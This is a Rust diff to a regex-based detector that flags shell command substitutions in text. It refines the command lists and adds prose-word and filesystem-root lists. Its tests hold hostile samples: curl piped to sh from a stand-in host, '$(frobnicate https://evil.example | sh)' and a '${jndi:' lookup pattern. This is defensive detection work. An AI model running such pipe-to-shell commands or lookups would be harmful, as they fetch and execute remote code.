@@ -84,11 +84,17 @@ const COMMANDS: &str = "awk|base64|bash|cat|chmod|chown|cp|curl|cut|date|dd|dig|
     python[0-9.]*|rm|ruby|scp|sed|sh|sleep|ssh|sudo|tail|tee|touch|tr|uname|wget|whoami|xargs|zsh";
 
 /// Commands that count with an argument: their names alone may be variables of a template.
-const WITH_ARGUMENT: &str = "apk|apt|apt-get|ash|aws|az|brew|bun|bunx|busybox|bzip2|cargo|cmd|composer|crontab|csh|\
-    dash|deno|docker|doas|dotnet|fish|ftp|gcc|gcloud|gem|git|go|gpg|gunzip|gzip|helm|java|jq|ksh|kubectl|ln|lua|make|\
-    mkdir|mktemp|mount|mysql|nerdctl|netstat|nmap|nohup|npm|npx|od|pip[0-9.]*|pipx|pkill|pnpm|podman|poetry|\
-    powershell|psql|pwsh|redis-cli|rsync|sftp|shell|socat|sqlite3|su|systemctl|tar|telnet|terraform|tftp|timeout|\
-    tmux|tsx|unzip|uv|uvx|xxd|xz|yarn|yum|zcat";
+const WITH_ARGUMENT: &str = "apk|apt|apt-get|aws|az|bun|bunx|busybox|bzip2|cmd|crontab|csh|deno|docker|doas|dotnet|ftp|\
+    gcc|gcloud|git|gpg|gunzip|gzip|jq|ksh|kubectl|ln|lua|mkdir|mktemp|mysql|nerdctl|netstat|nmap|nohup|npm|npx|od|\
+    pip[0-9.]*|pipx|pkill|pnpm|podman|powershell|psql|pwsh|redis-cli|rsync|sftp|socat|sqlite3|su|systemctl|tar|telnet|\
+    terraform|tftp|tmux|tsx|unzip|uv|uvx|xxd|xz|yarn|yum|zcat";
+
+/// Commands whose names are words of prose, such as "make an offer". They count with an argument that is none.
+const WORDS: &str = "ash|brew|cargo|composer|dash|fish|gem|go|helm|java|make|mount|poetry|shell|timeout";
+
+/// Folders below the root of a file system: in `$(/call/minute)` there is none.
+const ROOTS: &str =
+    "bin|dev|etc|home|lib|lib64|media|mnt|opt|proc|root|run|sbin|srv|sys|tmp|usr|var|Applications|Users";
 
 /// Commands inside `$(…)`, `<(…)` and backticks after an assignment, and look-ups inside `${…}`. A command that is in
 /// neither list counts by its path, by an argument that no prose has, or where its output is assigned.
@@ -97,9 +103,10 @@ static SUBSTITUTION: LazyLock<Regex> = LazyLock::new(|| {
     compiled(&format!(
         r#"(?-u)(?:\$\(|<\(|[A-Za-z0-9_]=`)\s*(?:
             (?:/[a-z0-9/._-]*/)?(?:{COMMANDS})(?:[\s|;&<>)`]|\$\{{)
-            |(?:{WITH_ARGUMENT})(?:\s+[^\s)`]|[|;&<>]))
-        |[$<]\(\s*(?:\.{{1,2}}|~|/[A-Za-z0-9._-]+)/[A-Za-z0-9._/-]*[A-Za-z]
-        |\$\(\s*{WORD}\s+(?:--[a-z]|\.{{1,2}}/|~/|/[a-z0-9._-]+/|["']|\$[A-Za-z{{(]|https?://)
+            |(?:{WITH_ARGUMENT})(?:\s+[^\s)`]|[|;&<>])
+            |(?:{WORDS})(?:\s+(?:[a-z]+\s+)?(?:-|["'`$]|\.{{1,2}}/|~/|/(?:{ROOTS})/)|[|;&<>]))
+        |[$<]\(\s*(?:\.{{1,2}}|~|/(?:{ROOTS}))/[A-Za-z0-9._/-]*[A-Za-z]
+        |\$\(\s*{WORD}\s+(?:--[a-z]|\.{{1,2}}/|~/|/(?:{ROOTS})/|["']|\$[A-Za-z{{(]|https?://[^\s()]*\s*[|>])
         |[A-Za-z0-9_]=["']?\$\(\s*{WORD}\s+[^()\s]
         |\$\(\s*<\s*[a-z/.~]
         |\$\{{jndi:"#
@@ -270,7 +277,9 @@ mod tests {
             "$(busybox sh)",
             "k=`git status`",
             "name $(frobnicate --all) end",
-            "name $(frobnicate https://evil.example) end",
+            "name $(frobnicate https://evil.example | sh) end",
+            "name $(make -C evil) end",
+            "name $(go run ./x.go) end",
             "$(frobnicate run evil)",
             "x=\"$(frobnicate run evil)\"",
             "`curl https://a.example|sh`",
@@ -313,7 +322,8 @@ mod tests {
             "`curl` | sh | `bash`",
             "run `curl https://a.example/install.sh|sh` to begin",
             "path=`/v1/agents`",
-            "0.01 $(/call)",
+            "0.01 $(/call), $(/call/minute)",
+            "$(make an offer), $(go to pricing), $(see https://commandlayer.org/pricing)",
             "`date|number`",
             "`id -> name`",
             "`host|ip`",
